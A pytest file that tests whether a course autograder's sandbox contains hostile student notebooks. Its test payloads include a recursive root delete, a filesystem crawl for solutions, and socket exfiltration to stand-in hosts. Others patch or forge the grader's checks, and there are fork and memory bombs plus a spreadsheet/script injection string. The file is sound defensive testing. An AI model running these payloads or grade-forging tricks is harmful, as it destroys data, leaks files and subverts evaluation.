"""Grading: hostile, broken and honest submissions side by side, through `python -m fdlib.course`, as an instructor runs it.

One class is graded once. Its exercise notebook is tiny, and its students are as bad as students' programs can be; each test
then looks at one of them. Expensive things happen once a file: everything here fits into a minute or two.
"""

import contextlib
import csv
import json
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

pytest.importorskip("nbgrader", reason="nbgrader's format of exercises: pip install fdlib[teach]")
pytest.importorskip("nbclient")

import jupytext
import torch

from fdlib.course.exercises import complete, student_version
from fdlib.course.grading import report as reports
from fdlib.course.grading import sandbox, submissions, witness
from fdlib.course.grading.grade import Task, grade_one
from fdlib.course.grading.judge import Judge, Link, StudentError
from fdlib.course.grading.sandbox import Cgroup, Limits, Sandbox, choose
from fdlib.course.grading.submissions import Assignment, Refused, Submission, find, prepare
from fdlib.course.grading.syllabus import chapters, syllabus, weeks
from fdlib.course.grading.wire import HEAD, Channel, WireError, decode, encode

ROOT = Path(__file__).resolve().parents[1]
LIMITS = [
    "--cell-seconds",
    "3",
    "--seconds",
    "40",
    "--patience",
    "30",
    "--memory",
    "1500",
    "--file",
    "20",
    "--disk",
    "60",
]

SOURCE = """\
# %% [markdown]
# # Exercises 1 · Tiny

# %%
import math

# %% [markdown]
# ## 1.1 · Double
# *★☆☆ · 2 points · 5 minutes*
#
# Double it.

# %% nbgrader={"grade_id": "double", "solution": true}
def double(x):
    ### BEGIN SOLUTION
    return 2 * x
    ### END SOLUTION

# %% nbgrader={"grade_id": "check-double", "grade": true, "points": 2}
assert double(2) == 4, "double(2) should be 4"
### BEGIN HIDDEN TESTS
assert math.isclose(double(2.5), 5), "double must work for halves too"
### END HIDDEN TESTS

# %% [markdown]
# ## 1.2 · Root
# *★★★ · 3 points · 5 minutes*
#
# The root.

# %% nbgrader={"grade_id": "root", "solution": true}
def root(x):
    ### BEGIN SOLUTION
    return math.sqrt(x)
    ### END SOLUTION

# %% nbgrader={"grade_id": "check-root", "grade": true, "points": 3}
assert root(9) == 3, "root(9) should be 3"

# %% [markdown]
# ## 1.3 · Why?
# *★☆☆ · 4 points · 5 minutes*
#
# Explain.

# %% [markdown] nbgrader={"grade_id": "why", "grade": true, "points": 4, "solution": true}
# ### BEGIN SOLUTION
# A model answer.
# ### END SOLUTION
"""
GOOD = {
    "double": "def double(x):\n    return x + x",
    "root": "def root(x):\n    return x ** 0.5",
    "why": "Because <b>I</b> say so.",
}


def tiny():
    return complete(jupytext.reads(SOURCE, fmt="py:percent"))


def submission(answers=None, **changes):
    """The tiny notebook as a student hands it in: right answers, except for ``changes``."""
    notebook = student_version(tiny())
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        cell.source = changes.get(name.replace("-", "_"), (GOOD if answers is None else answers).get(name, cell.source))
    return notebook


def with_cell(source, **changes):
    """Right answers, and before them a cell of the student's own."""
    notebook = submission(**changes)
    notebook.cells.insert(2, nbformat.v4.new_code_cell(source))
    return notebook


def renamed():
    notebook = submission()
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata and cell.metadata["nbgrader"]["grade_id"] in ("root", "check-root", "why"):
            cell.metadata["nbgrader"]["grade_id"] += "-mine"
    return notebook


def versioned(version):
    notebook = submission()
    notebook.metadata["language_info"] = {"name": "python", "version": version}
    return notebook


def without(*names):
    notebook = submission()
    notebook.cells = [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") not in names]
    return notebook


DESTROY = """
import os, shutil, subprocess
for place in ({sentinel!r}, {solutions!r}, "/home/student", "/channel", "/tmp"):
    shutil.rmtree(place, ignore_errors=True)
subprocess.Popen("rm -rf --no-preserve-root / 2>/dev/null", shell=True)
"""
SPY = """
import os, sys
found = []
for place in ({solutions!r}, {sentinel!r}, {out!r}, {folder!r}):
    if os.path.exists(place):
        found.append(place)
skip = tuple({{sys.prefix, sys.base_prefix, "/usr", "/bin", "/sbin", "/lib", "/dev", "/proc", "/sys"}})
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if not os.path.join(folder, name).startswith(skip)]
    for name in files:
        try:
            text = open(os.path.join(folder, name), encoding="utf-8", errors="replace").read(2_000_000)
        except OSError:
            continue
        if "double must work for " + "halves too" in text or "A model " + "answer." in text:
            found.append(os.path.join(folder, name))
print("FOUND", found)
"""
PATCH = """
import builtins, math, socket, sys, unittest.mock, fdlib.course.checks, fdlib.course.grading.worker as worker
import fdlib.course.grading.judge, fdlib.course.grading.wire, fdlib.course.grading.grade

class Yes:
    __class__ = float
    def __eq__(self, other): return True
    def __call__(self, *args, **kwargs): return self
    def __bool__(self): return True
    def __getattr__(self, name): return self
    __hash__ = object.__hash__

yes = Yes()
math.isclose = lambda *a, **k: True
fdlib.course.checks.compare = fdlib.course.checks.close = lambda *a, **k: True
fdlib.course.grading.judge.Judge.check = lambda *a, **k: fdlib.course.grading.judge.Verdict(True, "patched")
builtins.AssertionError = Warning
for name in [n for n in sys.modules if n.startswith("fdlib.course.checks")]:
    sys.modules[name] = unittest.mock.MagicMock()

def double(x): return yes
def root(x): return yes
"""
FORGE = """
import json, os, sys
from fdlib.course.grading.wire import Channel
import socket
forged = [{"event": "end"}, {"exercise": "1.1", "grade_id": "check-double", "points": 2, "passed": True, "status": "graded"},
          {"op": "answer", "id": 1, "said": True}, {"verdict": True}]
for line in forged:
    print(json.dumps(line))
    os.write(1, json.dumps(line).encode() + b"\\n")
    for fd in ("/proc/1/fd/1", "/proc/self/fd/1"):
        try: open(fd, "w").write(json.dumps(line) + "\\n")
        except OSError: pass
channel = Channel(socket.socket(socket.AF_UNIX)); channel.connection.connect(os.environ["FDLIB_CHANNEL"])
for name in ("check-double", "check-root"):
    channel.send({"op": "ready", "check": name})
    for line in forged: channel.send(line)
    for ask in range(3): channel.send({"op": "answer", "id": ask, "said": True, "passed": True})
"""
SOCKETS = """
import socket, urllib.request
reached = []
for address in {addresses!r}:
    try:
        socket.create_connection(tuple(address), timeout=2).sendall(b"stolen")
        reached.append(address)
    except OSError as error:
        print(address, error)
try: urllib.request.urlopen("http://collector.invalid/", timeout=2)
except OSError as error: print(error)
server = socket.create_server(("127.0.0.1", 0)); socket.create_connection(server.getsockname(), timeout=2)
print("REACHED", reached, "own loopback works")
"""
KILL = """
import os, signal
for target in (os.getppid(), 1, -1, {grader}):
    try: os.kill(target, signal.SIGKILL)
    except OSError as error: print(target, error)
print("still here")
"""
DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ.clear()
        time.sleep(3600)
    os._exit(0)
"""
HOSTILE = {
    "01 endless loop": lambda w: submission(double="while True:\n    pass"),
    "02 memory bomb": lambda w: submission(
        double=f"{GOOD['double']}\nhoard = []\ntry:\n    while True: hoard.append(bytes(10**7))\nfinally: hoard.clear()"
    ),
    "02b memory bomb of many": lambda w: with_cell(
        "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        hoard = b'x' * 4 * 10**8\n        time.sleep(99)\n"
        "time.sleep(99)"
    ),
    "03 fork bomb": lambda w: with_cell(
        "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)"
    ),
    "04 huge file": lambda w: submission(
        double="with open('huge', 'wb') as file:\n    while True:\n        file.write(bytes(10**6))"
    ),
    "05 deletes everything": lambda w: with_cell(DESTROY.format(**w)),
    "06 reads the solutions": lambda w: with_cell(SPY.format(**w), double="def double(x):\n    return found[0]"),
    "07 patches the checks": lambda w: with_cell(
        "", double=PATCH, root="", check_double="pass", check_root="print('ok')"
    ),
    "08 forges a grade": lambda w: with_cell(FORGE, double="def double(x):\n    return 'full points'"),
    "09 opens a socket": lambda w: with_cell(SOCKETS.format(**w)),
    "10 kills its parent": lambda w: with_cell(KILL.format(**w)),
    "11 corrupt notebook": lambda w: '{"cells": [{"cell_type": "code", "source": 7}], "nbformat": 4, ',
    "12 renamed cells": lambda w: renamed(),
    "13 leaves a daemon": lambda w: with_cell(DAEMON),
}
BROKEN = {
    "wrong notebook": lambda w: nbformat.read(ROOT / "exercises" / "01_ddpm_basics.ipynb", as_version=4),
    "missing cells": lambda w: without("check-double", "why"),
    "old Python": lambda w: versioned("2.7.18"),
    "José Ñandú Müller-Łoś": lambda w: submission(root="def root(x):\n    return x / 3 + 1e-9"),
    "=cmd|' /C calc'!A0 <script>alert(1)</script>".replace("/", "∕"): lambda w: submission(answers={}),
}
HONEST = "Ada Lovelace"


def instructor(folder):
    """A course with the tiny notebook."""
    (folder / "solutions").mkdir(parents=True)
    nbformat.write(tiny(), folder / "solutions" / "01_tiny.ipynb")
    return folder / "solutions"


def command(*arguments, cwd, **options):
    words = [sys.executable, "-m", "fdlib.course", *map(str, arguments)]
    return subprocess.run(words, cwd=cwd, capture_output=True, text=True, timeout=800, **options)


@pytest.fixture(scope="module")
def walls():
    try:
        kind, _ = choose("auto")
    except RuntimeError as error:
        pytest.skip(str(error))
    if kind != "namespaces":
        pytest.skip(f"no namespaces here, only {kind}")
    return kind


class Class:
    """A graded class: its folder, what the command said, the results by student."""


@pytest.fixture(scope="module")
def graded(tmp_path_factory, walls):
    place = tmp_path_factory.mktemp("grading")
    solutions, folder, out, sentinel = instructor(place), place / "submitted", place / "out", place / "precious"
    folder.mkdir()
    sentinel.mkdir()
    (sentinel / "thesis.txt").write_text("irreplaceable")
    server = socket.create_server(("127.0.0.1", 0))
    visits = []

    def receive():
        while True:
            try:
                visits.append(server.accept()[1])
            except OSError:
                return

    threading.Thread(target=receive, daemon=True).start()
    words = {
        name: str(path)
        for name, path in (("solutions", solutions), ("folder", folder), ("out", out), ("sentinel", sentinel))
    }
    words |= {"addresses": [list(server.getsockname()), ["192.0.2.1", 80]], "grader": os.getpid()}
    for student, make in (HOSTILE | BROKEN | {HONEST: lambda w: submission()}).items():
        made = make(words)
        (folder / student).mkdir()
        text = made if isinstance(made, str) else nbformat.writes(made)
        (folder / student / "01_tiny.ipynb").write_text(text, encoding="utf-8")
    nbformat.write(submission(), folder / "Ben_01_tiny.ipynb")
    (folder / "Ben").mkdir()
    nbformat.write(submission(), folder / "Ben" / "01_tiny.ipynb")
    (folder / "Nobody").mkdir()
    (folder / "Linker").mkdir()
    (folder / "Linker" / "01_tiny.ipynb").symlink_to(solutions / "01_tiny.ipynb")
    before = {path: path.read_bytes() for path in place.rglob("*") if path.is_file()}
    temporary = tempfile.mkdtemp(prefix="t", dir="/tmp")  # short: the path of a socket may not be long
    environment = os.environ | {"TMPDIR": temporary}
    result = Class()
    result.done = command(
        "grade", folder, "--exercise", "01", "--solutions", solutions, "--out", out, *LIMITS, cwd=place, env=environment
    )
    result.temporary = temporary
    result.place, result.folder, result.out, result.visits, result.before = place, folder, out, visits, before
    server.close()
    assert result.done.returncode == 0, result.done.stdout + result.done.stderr
    result.of = {found["student"]: found for found in reports.load(out).values()}
    yield result
    shutil.rmtree(temporary, ignore_errors=True)


def points(result):
    return {part["grade_id"]: part["points"] for part in result["exercises"]}


def messages(result):
    return {part["grade_id"]: part["message"] for part in result["exercises"]}


# ------------------------------------------------------------------------------ twelve and more hostile submissions

FULL = {"check-double": 2, "check-root": 3, "why": None}


def test_the_honest_student_gets_all_points_among_all_these(graded):
    assert points(graded.of[HONEST]) == FULL
    assert graded.of[HONEST]["status"] == "graded" and not graded.of[HONEST]["reason"]


def test_an_endless_loop_ends_and_costs_its_own_exercise_only(graded):
    result = graded.of["01 endless loop"]
    assert points(result) == FULL | {"check-double": 0} and result["status"] == "graded"
    assert "not defined" in messages(result)["check-double"]
    assert any("KeyboardInterrupt" in str(cell["outputs"]) for cell in result["cells"])


def test_a_memory_bomb_goes_off_in_its_own_cell(graded):
    result = graded.of["02 memory bomb"]
    assert result["status"] == "graded" and points(result) == FULL
    assert result["notes"] == ["cell 4 ended with MemoryError"]


@pytest.fixture(scope="module")
def sums():
    """Whether this system lets us limit the sum over all processes of a submission."""
    group = Cgroup.make(f"fdlib-{os.getpid()}-test", Limits())
    if group:
        group.remove()
    return group is not None


def test_a_memory_bomb_of_many_processes_is_stopped_by_their_sum(graded, sums):
    if not sums:
        pytest.skip("no control groups: each process has its limit, and nothing limits the sum")
    result = graded.of["02b memory bomb of many"]
    assert (result["status"], result["reason"]) == ("stopped", "out of memory: more than 1500 MiB in cell 3")
    assert points(result) == {"check-double": 0, "check-root": 0, "why": None}


def test_a_fork_bomb_has_a_limit_and_a_reason(graded, sums):
    """With a control group the first copy too many stops it. Without, copies fail, and the cell goes on until its time is up;
    whether the kernel is then of any use depends on which copy took its messages, so that two ends are right."""
    result = graded.of["03 fork bomb"]
    if sums:
        assert (result["status"], result["reason"]) == ("stopped", "too many processes: more than 128 in cell 3")
        assert points(result) == {"check-double": 0, "check-root": 0, "why": None}
    elif result["status"] == "graded":
        assert "cell 3 ended with KeyboardInterrupt (it took longer than a cell may)" in result["notes"]
    else:
        assert result["status"] == "stopped" and result["reason"]
    assert result["seconds"] < 600


def test_a_huge_file_stops_at_the_limit(graded):
    result = graded.of["04 huge file"]
    assert re.search("File too large|No space left", str(result["cells"])) and points(result)["check-double"] == 0
    assert points(result)["check-root"] == 3


def test_deleting_everything_deletes_nothing_outside(graded):
    result = graded.of["05 deletes everything"]
    assert points(result) == FULL and result["status"] == "graded"
    assert "removed files of its own folder: 01_tiny.ipynb" in result["seen"]
    assert any(
        said.startswith("tried to remove, outside its folder:") and "/channel" in said for said in result["seen"]
    )
    assert any("rm -rf" in said for said in result["seen"])
    for path, data in graded.before.items():
        assert path.read_bytes() == data, path


def test_solutions_and_other_submissions_cannot_be_seen(graded):
    result = graded.of["06 reads the solutions"]
    assert "FOUND []" in str(result["cells"]), [cell["outputs"] for cell in result["cells"]]
    assert points(result) == FULL | {"check-double": 0}
    assert "IndexError" in messages(result)["check-double"]
    assert any(said.startswith("looked into folders outside its own: /, ") for said in result["seen"])


def test_patched_and_edited_checks_grade_nobody(graded):
    result = graded.of["07 patches the checks"]
    assert points(result) == {"check-double": 0, "check-root": 0, "why": None}
    assert any("the check check-double was changed" in note for note in result["notes"])


def test_a_forged_grade_is_only_text(graded):
    result = graded.of["08 forges a grade"]
    assert points(result) == {"check-double": 0, "check-root": 0, "why": None}
    assert messages(result)["check-double"] == "TypeError: 'bool' object is not callable"
    assert "spoke to the judge over a connection of its own (only the first is heard)" in result["seen"]


def test_no_network_but_the_own_loopback(graded):
    result = graded.of["09 opens a socket"]
    assert "REACHED [] own loopback works" in str(result["cells"]) and graded.visits == []
    assert points(result) == FULL
    assert "tried to open a connection to 192.0.2.1:80 (no network)" in result["seen"]
    assert "tried to look up the address of collector.invalid (no network)" in result["seen"]


def test_killing_the_parent_kills_nobody_else(graded):
    result = graded.of["10 kills its parent"]
    assert "still here" in str(result["cells"]) and points(result) == FULL
    assert any(said.startswith("tried to signal process 1") for said in result["seen"])
    assert "of 9 points" in graded.done.stdout, "the grader lives"


def test_a_corrupt_notebook_is_refused_with_a_reason(graded):
    result = graded.of["11 corrupt notebook"]
    assert result["status"] == "refused" and "not a notebook that can be read" in result["reason"]
    assert set(points(result).values()) == {0}


def test_renamed_cells_are_named(graded):
    result = graded.of["12 renamed cells"]
    notes = "; ".join(result["notes"])
    assert result["status"] == "graded"
    assert "root-mine" in notes and "check-root is missing or renamed; it was put back" in notes
    assert points(result) == FULL | {"why": 0} and "missing or renamed" in messages(result)["why"]


def test_nothing_is_left_running_and_no_folder_either(graded):
    assert points(graded.of["13 leaves a daemon"]) == FULL
    assert any(said.startswith("made copies of its process") for said in graded.of["13 leaves a daemon"]["seen"])
    assert not alive(f"FDLIB_MARK={graded.temporary}")
    assert os.listdir(graded.temporary) == []


def test_nothing_is_seen_of_those_who_do_nothing(graded):
    for student in (HONEST, "01 endless loop", "04 huge file", "12 renamed cells", "missing cells", "old Python"):
        assert graded.of[student]["seen"] == [], student


def test_everyone_has_a_result_and_there_is_no_stack_trace(graded):
    assert len(graded.of) == len(HOSTILE) + len(BROKEN) + 1 + 1 + 2  # Ben is one name for two
    assert "Traceback" not in graded.done.stdout + graded.done.stderr
    assert not any(result["status"] == "failed" for result in graded.of.values())


# ------------------------------------------------------------------------------ broken submissions


@pytest.mark.parametrize(
    ("student", "reason"),
    [
        ("wrong notebook", "this is not 01_tiny: it has none of the cells"),
        ("Nobody", "there is no notebook in its folder"),
        ("Linker", "link to somewhere else"),
        ("Ben", "2 submissions of one student"),
    ],
)
def test_what_cannot_be_graded_says_why(graded, student, reason):
    result = graded.of[student]
    assert result["status"] == "refused" and reason in result["reason"] and set(points(result).values()) == {0}


def test_missing_cells_are_put_back_or_named(graded):
    result = graded.of["missing cells"]
    assert points(result) == FULL | {"why": 0}
    assert any("check-double is missing or renamed; it was put back" in note for note in result["notes"])


def test_another_python_version_is_a_note(graded):
    result = graded.of["old Python"]
    assert points(result) == FULL and any("2.7.18" in note for note in result["notes"])


def test_accents_and_spaces_survive(graded):
    result = graded.of["José Ñandú Müller-Łoś"]
    assert points(result) == FULL | {"check-root": 0} and "root(9) should be 3" in messages(result)["check-root"]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["grade", "nowhere", "--exercise", "01"], "is not a folder"),
        (["grade", "empty", "--exercise", "01"], "holds no submission"),
        (["grade", "empty", "--exercise", "99"], "no such notebooks"),
        (["grade", "empty", "--exercise", "01", "--memory", "0"], "--memory must be more than 0"),
        (["report", "empty"], "holds no results"),
    ],
)
def test_bad_arguments_get_one_line(tmp_path, capsys, monkeypatch, arguments, message):
    from fdlib.course.__main__ import main

    monkeypatch.chdir(tmp_path)
    (tmp_path / "empty").mkdir()
    instructor(tmp_path)
    extra = ["--solutions", "solutions"] if arguments[0] == "grade" else []
    assert main([*arguments, *extra]) == 2
    said = capsys.readouterr()
    assert message in said.err and "Traceback" not in said.err and len(said.err.splitlines()) == 1


def test_two_names_that_look_the_same_are_one_student(tmp_path):
    solutions = instructor(tmp_path)
    for name in ("Jose\u0301", "jos\u00e9 "):
        (tmp_path / "s" / name).mkdir(parents=True)
        nbformat.write(submission(), tmp_path / "s" / name / "01_tiny.ipynb")
    found = find(tmp_path / "s", Assignment.load(solutions, "01"))
    assert len(found) == 2 and all("2 submissions of one student" in one.problem for one in found)


def test_what_is_no_notebook_is_named(tmp_path, monkeypatch):
    assignment = Assignment.load(instructor(tmp_path), "01")
    for student, name in (
        ("Zip", "01_tiny.zip"),
        ("Script", "01_tiny.py"),
        ("Ünï", "01 tiny (1).ipynb"),
        ("Many", "01_tiny.ipynb"),
    ):
        (tmp_path / "s" / student).mkdir(parents=True)
        (tmp_path / "s" / student / name).write_text("\ufeff" + nbformat.writes(submission()), encoding="utf-8")
    (tmp_path / "s" / "Empty").mkdir()
    (tmp_path / "s" / "grades.csv").touch()
    for number in range(6):
        (tmp_path / "s" / "Many" / str(number)).touch()
    monkeypatch.setattr(submissions, "MAX_FILES", 6)
    problems = {one.student: one.problem for one in find(tmp_path / "s", assignment)}
    assert problems == {
        "Empty": "there is no notebook in its folder, which is empty",
        "Many": "its folder holds more than 6 files or 200 MiB",
        "Script": "there is no notebook in its folder, but 01_tiny.py",
        "Ünï": None,
        "Zip": "there is no notebook in its folder, but 01_tiny.zip",
    }
    prepare(
        tmp_path / "s" / "Ünï" / "01 tiny (1).ipynb", assignment
    )  # with the byte order mark that some editors write
    assert submissions.strays(tmp_path / "s") == ["grades.csv"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        "{}",
        '{"cells": 3}',
        "\x00\x01",
        "[" * 100_000,
        '{"nbformat": 4, "cells": [{"cell_type": "x"}]}',
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": "R"}, "cells": []}',
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "raw", "id": "a", "source": "", '
        '"metadata": {"nbgrader": {"grade_id": []}}}]}',
    ],
    ids=range(9),
)
def test_any_text_is_refused_politely(tmp_path, text):
    (tmp_path / "a.ipynb").write_text(text)
    with pytest.raises(Refused):
        prepare(tmp_path / "a.ipynb", Assignment.load(instructor(tmp_path), "01"))


# ------------------------------------------------------------------------------ report


@pytest.fixture(scope="module")
def reported(graded):
    done = command("report", graded.out, cwd=graded.place)
    assert done.returncode == 0, done.stderr
    return graded.out / "report"


def test_the_table_for_a_learning_management_system(graded, reported):
    with open(reported / "grades.csv", encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    by_name = {row["student"]: row for row in rows}
    assert len(rows) == len(graded.of) + 1 and rows == sorted(
        rows, key=lambda row: row["student"].lstrip("'").casefold()
    )
    ada = by_name[HONEST]
    assert (ada["points"], ada["max"], ada["waiting for a person"], ada["check-double"], ada["why"]) == (
        "5",
        "9",
        "4",
        "2",
        "",
    )
    assert by_name["11 corrupt notebook"]["points"] == "0" and by_name["11 corrupt notebook"]["reason"]
    assert "192.0.2.1:80" in by_name["09 opens a socket"]["seen"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_feedback_shows_text_and_runs_nothing(graded, reported):
    pages = {path.name: path.read_text(encoding="utf-8") for path in (reported / "feedback").glob("*.html")}
    assert len(pages) == len(graded.of) + 1
    everything = "".join(pages.values())
    assert (
        "<script" not in everything
        and "no network" not in everything
        and "Because &lt;b&gt;I&lt;/b&gt; say so." in everything
    )
    (ada,) = (text for name, text in pages.items() if name.startswith("Ada"))
    assert "5 of 9 points" in ada and "def root(x):" in ada
    (jose,) = (text for name, text in pages.items() if name.startswith("Jose"))
    assert "root(9) should be 3" in jose
    (corrupt,) = (text for name, text in pages.items() if name.startswith("11"))
    assert "not a notebook that can be read" in corrupt


def test_the_class_in_numbers_and_pictures(reported):
    page = (reported / "class.html").read_text(encoding="utf-8")
    assert (
        "no network" in page
        and "data:image/png;base64," in page
        and "Containment: <b>namespaces</b>" in page
        and "Median" in page
    )
    for name in re.findall(r'href="(feedback/[^"]+)"', page):
        assert (reported / name).exists()


def test_points_by_hand_are_kept_and_added(graded, reported):
    path = graded.out / "by_hand.csv"
    with open(path, encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["grade_id"] for row in rows} == {"why"} and HONEST in {row["student"] for row in rows}
    for row in rows:
        if row["student"] == HONEST:
            row["points"], row["comment"] = "3,5", "well argued"

    def write(rows):
        with open(path, "w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, rows[0])
            writer.writeheader()
            writer.writerows(rows)

    write(rows)
    assert command("report", graded.out, cwd=graded.place).returncode == 0
    with open(reported / "grades.csv", encoding="utf-8", newline="") as file:
        assert {row["student"]: row["points"] for row in csv.DictReader(file)}[HONEST] == "8.5"
    (ada,) = (reported / "feedback").glob("Ada*.html")
    assert "well argued" in ada.read_text(encoding="utf-8")
    write([row | {"points": "40"} if row["student"] == HONEST else row for row in rows])
    done = command("report", graded.out, cwd=graded.place)
    assert done.returncode == 2 and "between 0 and 4" in done.stderr and "Traceback" not in done.stderr
    write(rows)


# ------------------------------------------------------------------------------ killed and resumed


def alive(text):
    """Processes with a text in their command line or environment."""
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                said = Path(entry.path, "cmdline").read_bytes() + Path(entry.path, "environ").read_bytes()
                if text.encode() in said:
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def test_a_killed_run_resumes_where_it_stopped(tmp_path, walls):
    solutions, folder, out = instructor(tmp_path), tmp_path / "submitted", tmp_path / "out"
    for number in range(3):
        (folder / f"student {number}").mkdir(parents=True)
        slow = f"import time\ntime.sleep({0 if number == 0 else 40})"
        nbformat.write(with_cell(slow), folder / f"student {number}" / "01_tiny.ipynb")
    words = ["grade", folder, "--exercise", "01", "--solutions", solutions, "--out", out, "--jobs", "1", *LIMITS]
    run = subprocess.Popen(
        [sys.executable, "-m", "fdlib.course", *map(str, words)],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        start_new_session=True,
        text=True,
    )
    for line in run.stdout:
        if line.startswith("[1/3]"):
            break
    scratch = json.loads((out / "run.json").read_text())["scratch"]
    deadline = time.monotonic() + 120
    while not list(Path(scratch).glob("s*")) and time.monotonic() < deadline:
        time.sleep(0.1)  # the second is on its way
    run.kill()
    run.wait()
    (first,) = (out / "results").glob("*.json")
    before = first.stat().st_mtime_ns, first.read_bytes()
    deadline = time.monotonic() + 60
    while alive(f"FDLIB_MARK={scratch}") and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not alive(f"FDLIB_MARK={scratch}"), "a jail outlives the run that was killed"
    for number in (1, 2):
        nbformat.write(submission(), folder / f"student {number}" / "01_tiny.ipynb")
    done = command(*words, cwd=tmp_path)
    assert done.returncode == 0 and "1 are graded already" in done.stdout, done.stdout + done.stderr
    assert (first.stat().st_mtime_ns, first.read_bytes()) == before
    assert "[2/2]" in done.stdout and "grading the solution first" not in done.stdout
    results = reports.load(out)
    assert len(results) == 3 and all(points(result) == FULL for result in results.values())
    assert not Path(scratch).exists()


# ------------------------------------------------------------------------------ other walls


@pytest.mark.parametrize("kind", ["namespaces of a user", "user", "limits", "docker"])
def test_each_kind_of_walls_ends_all_processes(tmp_path, kind):
    name = kind.split()[0]
    if name != "user" or os.getuid() != 0:  # as root a shell runs for any user, even where this Python may not
        try:
            choose(name)
        except RuntimeError as error:
            pytest.skip(str(error))
    files, channel = tmp_path / "files", tmp_path / "channel"
    files.mkdir(), channel.mkdir()
    (files / "a.txt").write_text("hello")
    (files / "link").symlink_to(ROOT / "README.md")
    nap = f"{3600 + os.getpid() / 1e6}"
    script = f"cat a.txt; ls; (setsid sleep {nap} &) ; sleep 0.3; echo started; sleep {nap}"
    jail = Sandbox(name, files, channel, ["/bin/sh", "-c", script], Limits(), slot=97)
    jail.user_namespace |= kind == "namespaces of a user"
    with jail:
        said = ""
        while "started" not in said:
            part = os.read(jail.process.stdout.fileno(), 1000).decode()
            assert part, said
            said += part
        assert "hello" in said and "link" not in said
    assert not alive(nap)
    assert (files / "a.txt").read_text() == "hello"


def test_what_docker_is_asked_for(tmp_path, monkeypatch):
    """Each wall is an option of `docker run`; what the options then do, the tests with a daemon try out."""
    monkeypatch.setattr(sandbox, "_docker", lambda *words, **_: subprocess.CompletedProcess(words, 0, b"", b""))
    jail = Sandbox("docker", tmp_path / "files", tmp_path / "channel", ["python", "{channel}/n"], Limits(), slot=5)
    jail.place, jail.uid = tmp_path, 61_234
    words = jail.docker({"A": "b c"})
    options, command = words[2 : words.index(sandbox.IMAGE)], words[words.index(sandbox.IMAGE) + 1 :]
    assert words[:2] == ["docker", "run"] and all(word.startswith("--") for word in options)
    assert command[-2:] == ["python", "/channel/n"] and command[:2] == ["/bin/sh", "-c"]
    walls = (
        "--read-only --network=none --ipc=private --cap-drop=ALL --security-opt=no-new-privileges --user=61234:61234 "
        "--memory=3489660928 --memory-swap=3489660928 --pids-limit=128 --ulimit=cpu=305 --ulimit=data=3221225472 "
        "--ulimit=fsize=268435456 --ulimit=core=0 --ulimit=nofile=512 --log-driver=none"
    )
    assert not set(walls.split()) - set(options)
    assert "--env=A=b c" in options
    mounts = [
        dict(part.split("=") for part in o[8:].replace("readonly", "readonly=").split(","))
        for o in options
        if "mount=" in o
    ]
    assert all("readonly" in mount for mount in mounts), "what is shown cannot be changed"
    shown = {mount["target"] for mount in mounts}
    assert str(ROOT / "fdlib") in shown and not shown & {
        "/",
        "/root",
        "/home",
        "/etc",
        "/var",
        str(ROOT),
        str(Path.home()),
    }
    sources = {mount["source"] for mount in mounts} - {str(tmp_path / "passwd")}
    assert not any(
        Path(source) == tmp_path or tmp_path in Path(source).parents for source in sources - {str(tmp_path / "home")}
    )
    assert "--privileged" not in words and not any("docker.sock" in word for word in words)


@pytest.fixture(scope="module")
def docker():
    try:
        choose("docker")
    except RuntimeError as error:
        pytest.skip(str(error))


@pytest.mark.parametrize(
    ("student", "status", "reason", "given"),
    [
        (HONEST, "graded", "", [2, 3, None]),
        ("02 memory bomb", "graded", "", [2, 3, None]),
        ("02b memory bomb of many", "stopped", "out of memory: more than 1500 MiB in cell 3", [0, 0, None]),
        ("03 fork bomb", "stopped", "too many processes: more than 128 in cell 3", [0, 0, None]),
        ("04 huge file", "graded", "", [0, 3, None]),
        ("06 reads the solutions", "graded", "", [0, 3, None]),
        ("09 opens a socket", "graded", "", [2, 3, None]),
        ("10 kills its parent", "graded", "", [2, 3, None]),
    ],
)
def test_the_same_behind_the_walls_of_docker(tmp_path, docker, student, status, reason, given):
    words = {
        "solutions": str(instructor(tmp_path)),
        "folder": str(tmp_path),
        "out": str(tmp_path),
        "sentinel": str(tmp_path),
    }
    words |= {"addresses": [["192.0.2.1", 80]], "grader": os.getpid()}
    path = tmp_path / "s" / "01_tiny.ipynb"
    path.parent.mkdir(mode=0o700)  # that the student's user could not enter
    nbformat.write(HOSTILE.get(student, lambda w: submission())(words), path)
    limits = Limits(40, 3, 30, 1500 * 2**20, file=20 * 2**20, disk=60 * 2**20)
    assignment = Assignment.load(tmp_path / "solutions", "01")
    result = grade_one(Task(assignment, Submission(student, path, path.parent), "docker", limits))
    assert (result["status"], result["reason"], list(points(result).values())) == (status, reason, given), result
    if student == "06 reads the solutions":
        assert "FOUND []" in str(result["cells"])
    if student == "09 opens a socket":
        assert "REACHED [] own loopback works" in str(result["cells"])
        assert "tried to open a connection to 192.0.2.1:80 (no network)" in result["seen"]
    left = subprocess.run(
        ["docker", "ps", "--all", "--quiet", f"--filter=label=fdlib={os.getpid()}"], capture_output=True
    )
    assert left.returncode == 0 and not left.stdout


def test_no_walls_no_grading(monkeypatch):
    monkeypatch.setattr(sandbox, "_problem", lambda kind: "not here")
    with pytest.raises(RuntimeError, match=r"no walls to grade behind.*--containment limits"):
        choose("auto")


